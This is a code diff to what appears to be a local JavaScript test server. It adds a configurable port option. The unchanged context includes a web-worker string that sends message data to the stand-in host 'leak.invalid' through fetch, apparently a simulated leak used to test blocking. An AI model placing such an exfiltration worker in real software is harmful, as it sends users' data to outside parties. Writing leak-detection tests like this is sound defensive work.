@@ -32,7 +32,7 @@ const LEAK_WORKER_JS = `
 onmessage = (e) => { fetch("http://leak.invalid/c?d=" + encodeURIComponent(e.data.slice(0, 300))).catch(() => {}); };
 `;
 
-export async function serve(root, { leak = false } = {}) {
+export async function serve(root, { leak = false, port = 0 } = {}) {
   const log = [];
   const server = createServer(async (req, res) => {
     const chunks = [];
@@ -55,9 +55,9 @@ export async function serve(root, { leak = false } = {}) {
       send(res, 404, ".txt", "not found");
     }
   });
-  await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
-  const { port } = server.address();
-  return { origin: `http://127.0.0.1:${port}`, log, close: () => new Promise((ok) => server.close(ok)) };
+  await new Promise((ok) => server.listen(port, "127.0.0.1", ok));
+  const bound = server.address().port;
+  return { origin: `http://127.0.0.1:${bound}`, log, close: () => new Promise((ok) => server.close(ok)) };
 }
 
 function send(res, status, ext, body) {
